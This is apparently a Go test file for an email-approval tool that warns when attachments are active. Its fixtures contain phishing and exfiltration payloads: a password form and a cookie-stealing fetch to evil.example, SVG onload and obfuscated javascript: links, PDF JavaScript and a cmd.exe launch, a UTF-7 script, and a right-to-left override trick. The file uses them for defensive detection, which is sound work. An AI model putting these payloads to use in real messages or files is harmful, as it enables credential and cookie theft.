package email_test

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/countersign/countersign/action/email"
	"github.com/countersign/countersign/approval"
)

// codedWarnings returns the preview's warnings that carry code.
func codedWarnings(p approval.Preview, code string) []string {
	var out []string
	for i, w := range p.Warnings {
		if p.Code(i) == code {
			out = append(out, w)
		}
	}
	return out
}

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := []byte{0xff, 0xfe}
	for _, c := range u {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

// An HTML or SVG attachment with a script or a form posting elsewhere got
// no warning (issue 19 class 5). Whether it is active is decided from its
// name, its declared type and its content, read as a browser reads it.
func TestActiveAttachmentsWarned(t *testing.T) {
	a := newAction(t, nil, email.Limits{})
	phish := `<html><body><form action="https://evil.example/collect" method="post"><input name="pw" type="password"></form>` +
		`<script>fetch('https://evil.example/'+document.cookie)</script></body></html>`
	for _, c := range []struct {
		name string
		att  map[string]string
		want []string // each must appear in the active_attachment warning
	}{
		{"html with a script and a form", att("invoice.html", "text/html", []byte(phish)), []string{"a script", "https://evil.example/collect"}},
		{"svg with an onload handler", att("logo.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>`)), []string{"onload"}},
		{"svg script in a namespace", att("chart.svg", "image/svg+xml", []byte(`<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>`)), []string{"a script"}},
		{"uppercase tags", att("page.htm", "text/html", []byte(`<HTML><BODY><SCRIPT SRC=//evil.example/x.js></SCRIPT>`)), []string{"a script"}},
		{"html declared as plain text", att("notes.txt", "text/plain", []byte(`<!doctype html><p>Hello</p><script>x()</script>`)), []string{"a script"}},
		{"html declared as octet-stream without extension", att("statement", "application/octet-stream", []byte(phish)), []string{"a form"}},
		{"html named .htm declared as pdf", att("scan.htm", "application/pdf", []byte(`<p>x</p><iframe src="https://evil.example"></iframe>`)), []string{"<iframe>"}},
		{"entity-obfuscated script link", att("a.html", "text/html", []byte(`<a href="&#106;ava&#x09;script:alert(1)">open</a>`)), []string{"javascript"}},
		{"meta refresh", att("a.html", "text/html", []byte(`<meta http-equiv="Refresh" content="0;url=https://evil.example">`)), []string{"redirect"}},
		{"utf-16 html", att("u.html", "text/html", utf16le(`<html><script>alert(1)</script></html>`)), []string{"a script"}},
		{"svg foreignObject", att("f.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>x</div></foreignObject></svg>`)), []string{"foreignObject"}},
		{"xhtml form", att("f.xhtml", "application/xhtml+xml", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"/></html>`)), []string{"https://evil.example/"}},
		{"hta is a program", att("run.hta", "application/hta", []byte(`<html><script>x</script></html>`)), []string{"program"}},
		{"js is a program", att("run.js", "text/plain", []byte(`WScript.Echo(1)`)), []string{"program"}},
		{"pdf with a script", att("invoice.pdf", "application/pdf", []byte("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n")), []string{"a script"}},
		{"pdf with an escaped launch", att("scan.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj << /OpenAction << /S /L#61unch /F (cmd.exe) >> >> endobj\n%%EOF\n")), []string{"launches a program"}},
		{"compressed svg", att("logo.svgz", "image/svg+xml", gz(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)), []string{"onload"}},
		{"compiled help is a program", att("manual.chm", "application/octet-stream", []byte("ITSF\x03\x00\x00\x00")), []string{"program"}},
		{"internet shortcut", att("portal.url", "application/octet-stream", []byte("[InternetShortcut]\nURL=file://evil.example/x\n")), []string{"program"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			p, err := prepare(t, a, withAttachments(c.att))
			if err != nil {
				t.Fatal(err)
			}
			got := codedWarnings(p.Preview, approval.WarnActiveAttachment)
			if len(got) != 1 {
				t.Fatalf("active_attachment warnings %q (all: %q)", got, p.Preview.Warnings)
			}
			for _, w := range c.want {
				if !strings.Contains(got[0], w) {
					t.Errorf("warning %q does not say %q", got[0], w)
				}
			}
		})
	}
	// Plain documents, HTML without anything active among them, are not
	// active.
	for _, at := range []map[string]string{
		att("letter.html", "text/html", []byte(`<html><body><p>Dear Ada, <a href="https://corp.example/">our site</a></p></body></html>`)),
		att("rows.csv", "text/csv", []byte("a,b\n1,2\n")),
		att("doc.pdf", "application/pdf", pdf),
		att("logo.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`)),
	} {
		p, err := prepare(t, a, withAttachments(at))
		if err != nil {
			t.Fatal(err)
		}
		if got := codedWarnings(p.Preview, approval.WarnActiveAttachment); len(got) > 0 {
			t.Errorf("%s: %q", at["name"], got)
		}
	}
}

// The approver could not read any attachment's content (issue 19 class
// 5): text-like attachments (text, CSV, JSON, HTML and SVG as source) are
// shown, up to 64 KiB each with a note where they are cut; binary ones
// are not; hidden characters in them are escaped and warned about like
// any agent text (guarantee 11).
func TestTextAttachmentsShownAsSource(t *testing.T) {
	a := newAction(t, nil, email.Limits{})
	html := `<form action="https://evil.example/"><script>x()</script></form>`
	big := strings.Repeat("0123456789abcdé\n", 6000) // 102,000 bytes
	p, err := prepare(t, a, withAttachments(
		att("page.html", "text/html", []byte(html)),
		att("doc.pdf", "application/pdf", pdf),
		att("big.csv", "text/csv", []byte(big)),
		att("note.txt", "text/plain", []byte("pay \u202eevil\u202c now\r\nline 2\n")),
		att("data.json", "application/json", []byte(`{"iban":"DE00"}`)),
	))
	if err != nil {
		t.Fatal(err)
	}
	fields := map[string]approval.Field{}
	for _, f := range p.Preview.Fields {
		fields[f.Name] = f
	}
	if f := fields["attachments[0].content"]; f.Value != html || !f.Long || f.Format != "" || !strings.Contains(f.Label, "not opened") {
		t.Errorf("html attachment shown as %+v", f)
	}
	if _, ok := fields["attachments[1].content"]; ok {
		t.Error("a PDF is shown as text")
	}
	f := fields["attachments[2].content"]
	if len(f.Value) > email.MaxShownAttachmentBytes || !strings.HasPrefix(big, f.Value) || len(f.Value) < email.MaxShownAttachmentBytes-4 {
		t.Errorf("big csv shown with %d bytes", len(f.Value))
	}
	if !strings.Contains(f.Label, fmt.Sprintf("cut at %d of %d bytes", len(f.Value), len(big))) {
		t.Errorf("big csv label %q", f.Label)
	}
	if got := fields["attachments[4].content"].Value; got != `{"iban":"DE00"}` {
		t.Errorf("json shown as %q", got)
	}
	op := &approval.Operation{Key: "op_x", Action: email.Name, Preview: p.Preview, Status: approval.StatusPending,
		ExpiresAt: time.Now().Add(time.Hour)}
	m := approval.BuildMessage(op, &approval.Policy{}, time.Now())
	var shown string
	for _, f := range m.Fields {
		if f.Name == "attachments[3].content" {
			shown = f.Value
		}
	}
	if shown != "pay ⟨U+202E⟩evil⟨U+202C⟩ now\nline 2\n" {
		t.Errorf("note.txt shown as %q", shown)
	}
	found := false
	for i, c := range m.WarningCodes {
		if c == approval.WarnHiddenCharacters && strings.Contains(m.Warnings[i], "Attachment 4 content") {
			found = true
		}
	}
	if !found {
		t.Errorf("no hidden_characters warning naming the attachment: %q", m.Warnings)
	}
}

// An attachment's declared charset is how the recipient decodes it: UTF-7
// and other charsets that would read one way here and another there are
// refused, and a legacy charset is shown decoded as the recipient reads
// it (issue 19 class 3).
func TestAttachmentCharsetReadAsTheRecipientReadsIt(t *testing.T) {
	a := newAction(t, nil, email.Limits{})
	for _, cs := range []string{"utf-7", "x-user-defined", "shift_jis", "iso-2022-jp"} {
		_, err := prepare(t, a, withAttachments(att("n.txt", "text/plain; charset="+cs, []byte("+ADw-script+AD4-"))))
		if err == nil {
			t.Errorf("charset %s accepted", cs)
			continue
		}
		if got := fieldsOf(t, err); len(got) != 1 || got[0] != "attachments[0].content_type" {
			t.Errorf("charset %s: fields %v", cs, got)
		}
	}
	p, err := prepare(t, a, withAttachments(att("n.txt", "text/plain; charset=ISO-8859-1", []byte("Gr\xfc\xdfe \x80 5"))))
	if err != nil {
		t.Fatal(err)
	}
	shown := "(not shown)"
	for _, f := range p.Preview.Fields {
		if f.Name == "attachments[0].content" {
			shown = f.Value
		}
	}
	if shown != "Grüße € 5" {
		t.Errorf("shown as %q", shown)
	}
}

func gz(s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.Bytes()
}
